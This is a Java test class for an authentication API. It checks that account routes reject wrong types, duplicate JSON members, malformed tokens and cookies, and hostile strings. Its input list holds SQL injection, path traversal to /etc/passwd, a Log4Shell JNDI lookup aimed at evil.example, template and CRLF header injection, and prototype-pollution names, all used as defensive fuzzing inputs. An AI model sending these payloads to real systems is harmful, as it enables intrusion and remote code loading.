package engineroom.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import engineroom.data.JsonText;
import engineroom.json.Json;
import engineroom.json.JsonLimits;
import engineroom.json.JsonReader;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Strange types, names and texts in every place about accounts: told as what is wrong with the
/// request, never as a failure, and never as a success.
class HostileAccountsTest {
  private static final String ANN = "ann@example.org";
  private static final Path LIST =
      Path.of("").toAbsolutePath().resolve("../../shared/data/naughty-strings/blns.json");

  private static final List<String> WRONG =
      List.of("null", "\"\"", "[]", "{}", "7", "1e400", "true", "[\"x\"]", "{\"eq\":\"x\"}");
  private static final List<String> KNOWN =
      List.of(
          "__proto__",
          "constructor",
          "prototype",
          "hasOwnProperty",
          "toString",
          "valueOf",
          "class",
          "$where",
          "$ne",
          "' OR 1=1 --",
          "\"; DROP TABLE user; --",
          "../../etc/passwd",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "\r\nSet-Cookie: a=b");

  /// The members of each body, by route.
  private static final Map<String, List<String>> MEMBERS =
      Map.ofEntries(
          Map.entry("POST /auth/sign-up", List.of("email", "password", "invitation", "session")),
          Map.entry("POST /auth/sign-in", List.of("login", "password", "session")),
          Map.entry("POST /auth/refresh", List.of("refreshToken")),
          Map.entry("POST /auth/sign-out", List.of("refreshToken")),
          Map.entry("POST /auth/password", List.of("current", "password")),
          Map.entry("POST /auth/verify", List.of("token", "email", "password")),
          Map.entry("POST /auth/password/reset", List.of("email")),
          Map.entry("POST /auth/password/reset/confirm", List.of("token", "password")),
          Map.entry("POST /auth/magic-link", List.of("email")),
          Map.entry("POST /auth/magic-link/confirm", List.of("token", "session")),
          Map.entry("POST /auth/email-code", List.of("email")),
          Map.entry("POST /auth/email-code/confirm", List.of("transaction", "code", "session")),
          Map.entry("POST /auth/unlock", List.of("token")),
          Map.entry("POST /auth/email", List.of("email", "password")),
          Map.entry("POST /auth/email/confirm", List.of("token")),
          Map.entry("POST /auth/email/stop", List.of("token")),
          Map.entry("POST /auth/anonymous", List.of("session")),
          Map.entry("POST /auth/upgrade", List.of("email", "password")),
          Map.entry("DELETE /auth/me", List.of("password")),
          Map.entry("POST /auth/mfa/totp/confirm", List.of("code")),
          Map.entry("DELETE /auth/mfa/totp", List.of("password", "code", "recoveryCode")),
          Map.entry("POST /auth/mfa/recovery-codes", List.of("password", "code", "recoveryCode")),
          Map.entry(
              "POST /auth/mfa/verify", List.of("mfaToken", "code", "recoveryCode", "session")),
          Map.entry("POST /auth/keys", List.of("name")),
          Map.entry("POST /auth/invitations", List.of("email")),
          Map.entry("POST /auth/impersonate", List.of("user", "session")));

  @TempDir Path folder;
  private Site site;
  private String ann = "";

  @BeforeEach
  void open() {
    site = new Site(folder, Fort.MODEL);
    site.member(ANN);
    site.roles(ANN, "chief");
    ann = site.signIn(ANN).text("accessToken");
  }

  @Test
  void every_route_about_accounts_that_takes_a_body_is_tried() {
    var routes =
        site.routes().stream()
            .filter(route -> route.of("/auth/") && !route.safe() && !route.path().contains("{id}"))
            .map(Route::toString)
            .filter(route -> !route.equals("POST /auth/mfa/totp")) // it takes none
            .filter(route -> !route.equals("DELETE /auth/sessions"))
            .toList();
    assertThat(MEMBERS.keySet()).containsExactlyInAnyOrderElementsOf(routes);
  }

  @Test
  void other_types_in_each_place_of_a_credential_are_told_as_such() {
    var before = site.kept();
    MEMBERS.forEach(
        (route, members) -> {
          for (var member : members) {
            for (var wrong : WRONG) {
              var answer = asked(route, "{\"%s\":%s}".formatted(member, wrong));
              if (member.equals("invitation") && answer.status() == 403) {
                continue; // an empty one is none that is good
              }
              assertThat(answer.status()).as("%s %s %s", route, member, wrong).isIn(400, 422);
              assertThat(answer.body()).as("%s %s", route, wrong).contains(member);
            }
          }
        });
    assertThat(site.kept()).isEqualTo(before);
  }

  private Answer asked(String route, String body) {
    var parts = route.split(" ", 2);
    return site.as(ann, parts[0], parts[1], body);
  }

  @Test
  void a_header_or_cookie_of_another_form_is_no_credential() {
    for (var header :
        List.of(
            "Bearer",
            "Bearer null",
            "Bearer undefined",
            "Basic YTpi",
            "bearer",
            "Bearer [object Object]",
            "Bearer  " + ann,
            ann,
            "Bearer " + ann + " " + ann,
            "Bearer " + ann + ",Bearer " + ann,
            "Token " + ann,
            "Bearer \"" + ann + "\"")) {
      var sent = Map.of("Authorization", header);
      assertThat(site.send("GET", "/auth/me", sent, "").status()).as(header).isEqualTo(401);
      assertThat(site.send("GET", "/api/notes", sent, "").status()).as(header).isEqualTo(401);
    }
    for (var cookie : List.of("null", "{}", "[]", "true", "er_st_", "%00", "\"\"")) {
      assertThat(site.send("GET", "/api/notes", Site.cookie(cookie), "").status()).isEqualTo(401);
    }
  }

  @Test
  void a_member_that_is_there_twice_is_refused_everywhere() {
    for (var route : site.routes()) {
      if (!route.method().matches("POST|PUT|PATCH") || route.of("/admin/")) {
        continue;
      }
      var answer =
          site.as(
              ann,
              route.method(),
              route.target() + (route.path().endsWith("s") ? "?by=id" : ""),
              "{\"token\":\"a\",\"token\":\"b\"}");
      assertThat(answer.status()).as("%s → %s", route, answer).isBetween(400, 422);
    }
    for (var path : MEMBERS.keySet()) {
      var answer = asked(path, "{\"password\":\"a\",\"password\":\"b\"}");
      assertThat(answer.code()).as(path).isEqualTo("request/unreadable");
    }
  }

  @Test
  void names_that_programs_know_are_names_like_others() {
    for (var name : KNOWN) {
      refusedAsName(name);
      refusedAsValue(name);
      var login = "{\"login\":%s,\"password\":%s}".formatted(quoted(name), quoted(name));
      assertThat(site.post("/auth/sign-in", login).status()).as(name).isIn(401, 422);
    }
    var locale = "{\"locale\":\"../../../etc/passwd\"}";
    var me = "/api/users/" + site.id("user", "email", ANN);
    assertThat(site.as(ann, "PATCH", me, locale).status()).isEqualTo(422);
  }

  @Test
  void the_big_list_of_naughty_strings_finds_nothing() throws IOException {
    assumeTrue(Files.exists(LIST), "There is no " + LIST + ", so its strings are not tried.");
    var read = JsonReader.read(Files.readAllBytes(LIST), JsonLimits.defaults());
    assertThat(read).isInstanceOf(Json.Arr.class);
    for (var element : ((Json.Arr) read).elements()) {
      if (element instanceof Json.Text(var text)) {
        refusedAsName(text);
        refusedAsValue(text);
      }
    }
    assertThat(site.get(ann, "/auth/me").status()).isEqualTo(200);
  }

  private static String quoted(String text) {
    var quoted = new StringBuilder();
    JsonText.quote(quoted, text);
    return quoted.toString();
  }

  private void refusedAsName(String name) {
    for (var route : MEMBERS.keySet()) {
      var answer = asked(route, "{" + quoted(name) + ":\"x\"}");
      assertThat(answer.status()).as("%s named %s → %s", route, name, answer).isIn(400, 422);
    }
  }

  /// In the places that no password has to be worked out for.
  private void refusedAsValue(String value) {
    for (var route : List.of("refresh", "verify", "magic-link/confirm", "email/confirm")) {
      var member = route.equals("refresh") ? "refreshToken" : "token";
      var answer = site.post("/auth/" + route, "{\"" + member + "\":" + quoted(value) + "}");
      assertThat(answer.status()).as("%s %s → %s", route, value, answer).isIn(400, 401, 422);
    }
    var path = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    for (var route : List.of("/auth/sessions/", "/auth/keys/", "/auth/invitations/")) {
      var answer = site.as(ann, "DELETE", route + path, "");
      if (!value.isEmpty() && !value.contains("/")) {
        assertThat(answer.status()).as("%s%s → %s", route, value, answer).isIn(400, 404);
      }
    }
    assertThat(site.get(value.strip().isEmpty() ? "x" : value, "/auth/me").status()).isEqualTo(401);
  }
}
